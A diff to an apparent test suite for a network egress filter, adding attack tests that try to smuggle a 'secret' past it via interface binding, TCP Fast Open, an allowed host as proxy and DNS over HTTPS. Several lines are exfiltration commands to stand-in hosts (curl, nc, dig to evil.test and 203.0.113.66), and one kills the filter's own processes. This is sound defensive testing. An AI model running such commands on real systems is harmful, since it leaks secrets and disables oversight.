@@ -202,8 +202,7 @@ try:
     print("sent")
 except OSError as e: print(e)
 `;
-  const run = await inPython(scene, program);
-  assert.notEqual(run.stdout, "", run.stderr);
+  await inPython(scene, program);
 });
 
 test("attack: IPv6, by TCP, UDP and ICMP", async (scene) => {
@@ -280,4 +279,51 @@ test("attack: killing egress's own processes from inside", async (scene) => {
       "tr '\\0' ' ' </proc/$p/cmdline | grep -qE '/(kernel|engine|proxy)\\.js' && kill -9 $p; done; " +
       "curl -sS -m 3 -d secret http://203.0.113.66/; echo secret | nc -u -w 1 203.0.113.66 9000",
   );
+});
+
+test("attack: a socket bound to the network link", async (scene) => {
+  await inShell(
+    scene,
+    "curl -sS -m 3 --interface uplink -d secret http://203.0.113.66/; " +
+      "dig +tries=1 +timeout=2 -b 192.0.2.2 secret.evil.test",
+  );
+});
+
+test("attack: data in the first packet of a connection (TCP Fast Open)", async (scene) => {
+  await inPython(
+    scene,
+    `
+import socket
+open("/proc/sys/net/ipv4/tcp_fastopen", "w").write("1")
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.settimeout(2)
+try:
+    s.sendto(b"secret", 0x20000000, ("203.0.113.66", 9000))
+    print(s.recv(9))
+except OSError as e: print(e)
+`,
+  );
+});
+
+test("attack: an allowed host as a forward proxy", async (scene) => {
+  const run = await inShell(
+    scene,
+    "curl -sS -m 3 -x http://site.test:80 -d secret http://evil.test/; " +
+      "curl -sSk -m 3 -x http://site.test:80 -d secret https://evil.test/",
+    false,
+  );
+  assert.ok((await scene.received()).every((item) => item.kind !== "request"));
+  assert.equal(events(run.log, { type: "http", policy: "deny" }).length, 2);
+});
+
+test("attack: DNS over HTTPS inside an allowed host", async (scene) => {
+  const run = await inShell(
+    scene,
+    "curl -sS -m 3 -w '%{http_code}' -H 'Content-Type: application/dns-message' " +
+      "--data-binary secret https://site.test/dns-query",
+    false,
+  );
+  assert.equal(run.stdout.slice(-3), "403", run.stderr);
+  some(run.log, { type: "https", policy: "deny", reason: "doh" });
+  assert.ok((await scene.received()).every((item) => item.kind !== "request"));
 });
